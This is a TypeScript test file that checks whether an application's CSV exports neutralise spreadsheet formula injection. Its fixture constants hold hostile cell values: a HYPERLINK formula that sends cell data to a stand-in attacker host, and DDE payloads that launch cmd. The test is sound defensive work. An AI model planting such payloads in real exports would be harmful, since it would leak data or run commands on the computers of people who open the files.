import { parse } from 'csv-parse/sync'
import t from 'tap'
import { csvDocument, neutraliseCell } from '../../server/domain/csv.js'
import { apiToken, browserGet, signIn, startTestApp } from '../helpers/app.js'

// Names a spreadsheet would run as formulas, one per leading character the exports must neutralise.
const DEPARTMENT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
const DOMAIN = '@SUM(1,2)'
const COMPETENCY = '+cmd|" /C calc"!A0'
const PROGRAMME = '-2+3+cmd|" /C calc"!A0'
const PROVIDER = '\tTAB=1+1'
const DESCRIPTION = '\r=1+1'

/** The cells of a CSV download, row by row. */
function rowsOf(body: string): string[][] {
  return parse(body, { relax_column_count: true }) as string[][]
}

t.test('the CSV writer neutralises every cell a spreadsheet would run', async (t) => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) t.equal(neutraliseCell(`${start}1+1`), `'${start}1+1`, JSON.stringify(start))
  t.equal(neutraliseCell('Physics = fun'), 'Physics = fun', 'only the first character counts')
  t.equal(neutraliseCell(-3), -3, 'a number cannot be a formula')
  t.equal(csvDocument([['a', '=1'], ['@x', 'b']]), "a,'=1\n'@x,b\n")
  t.equal(csvDocument([['=1']], { lineEnd: 'windows' }), "'=1\r\n")
})

t.test('every CSV export neutralises hostile names to the exact cell text', async (t) => {
  const { app, db } = await startTestApp(t)
  // Before any request, so the framework cache reads the hostile titles.
  const institution = await db.selectFrom('institutions').select(['id', 'framework_id']).where('name', '=', 'Demo University').executeTakeFirstOrThrow()
  const department = await db.selectFrom('departments').select('id').where('institution_id', '=', institution.id).orderBy('id').executeTakeFirstOrThrow()
  await db.updateTable('departments').set({ name: DEPARTMENT }).where('id', '=', department.id).execute()
  const domain = await db.selectFrom('competencies').select(['id', 'code']).where('framework_id', '=', institution.framework_id).where('kind', '=', 'domain').orderBy('position').executeTakeFirstOrThrow()
  await db.updateTable('competencies').set({ title: DOMAIN }).where('id', '=', domain.id).execute()
  const competency = await db.selectFrom('competencies').select(['id', 'code']).where('framework_id', '=', institution.framework_id).where('kind', '=', 'competency').orderBy('position').executeTakeFirstOrThrow()
  await db.updateTable('competencies').set({ title: COMPETENCY }).where('id', '=', competency.id).execute()
  const programme = await db.selectFrom('programmes').select(['id', 'code']).orderBy('code').executeTakeFirstOrThrow()
  await db.updateTable('programmes').set({ title: PROGRAMME, provider: PROVIDER, description: DESCRIPTION }).where('id', '=', programme.id).execute()

  const hr = await signIn(app, 'hr@demo.test')
  const token = await apiToken(app, 'hr@demo.test')
  const api = async (url: string) => {
    const response = await app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } })
    t.equal(response.statusCode, 200, url)
    return rowsOf(response.body)
  }
  const page = async (url: string) => {
    const response = await browserGet(app, hr, url)
    t.equal(response.statusCode, 200, url)
    return rowsOf(response.body)
  }

  const byDepartment = await api('/api/v1/institution/gaps.csv?by=department')
  t.ok(byDepartment.some((row) => row[0] === `'${DEPARTMENT}` && row[1] === domain.code && row[2] === `'${DOMAIN}`), 'gaps by department: department and domain')
  const byCompetency = await api('/api/v1/institution/gaps.csv?by=competency')
  t.same(byCompetency.find((row) => row[1] === competency.code)?.slice(1, 3), [competency.code, `'${COMPETENCY}`], 'gaps by competency')
  const byDomain = await api(`/api/v1/institution/gaps.csv?by=domain&department=${department.id}`)
  t.same(byDomain.find((row) => row[1] === domain.code)?.slice(0, 3), [`'${DEPARTMENT}`, domain.code, `'${DOMAIN}`], 'gaps by domain in one department')

  const participation = await page('/hr/insights/participation.csv')
  t.ok(participation.some((row) => row[0] === `'${DEPARTMENT}`), 'participation: department')
  const distribution = await page('/hr/insights/distribution.csv')
  t.same(distribution.find((row) => row[0] === competency.code)?.slice(0, 2), [competency.code, `'${COMPETENCY}`], 'distribution: competency')
  const trend = await page('/hr/insights/trend.csv')
  t.ok(trend.length > 1, 'trend: has rows (quarters and figures only)')

  const designer = await signIn(app, 'designer@demo.test')
  const catalogueResponse = await browserGet(app, designer, '/design/catalogue.csv')
  t.equal(catalogueResponse.statusCode, 200)
  const catalogue = rowsOf(catalogueResponse.body)
  const header = catalogue[0]!
  const row = catalogue.find((cells) => cells[0] === programme.code)!
  t.equal(row[header.indexOf('title')], `'${PROGRAMME}`, 'catalogue: programme title')
  t.equal(row[header.indexOf('provider')], `'${PROVIDER}`, 'catalogue: provider')
  t.equal(row[header.indexOf('description')], `'${DESCRIPTION}`, 'catalogue: description')

  // No cell of any export begins as a formula.
  for (const [name, rows] of Object.entries({ byDepartment, byCompetency, byDomain, participation, distribution, trend, catalogue })) {
    const live = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))
    t.same(live, [], `${name}: no live formula`)
  }
})
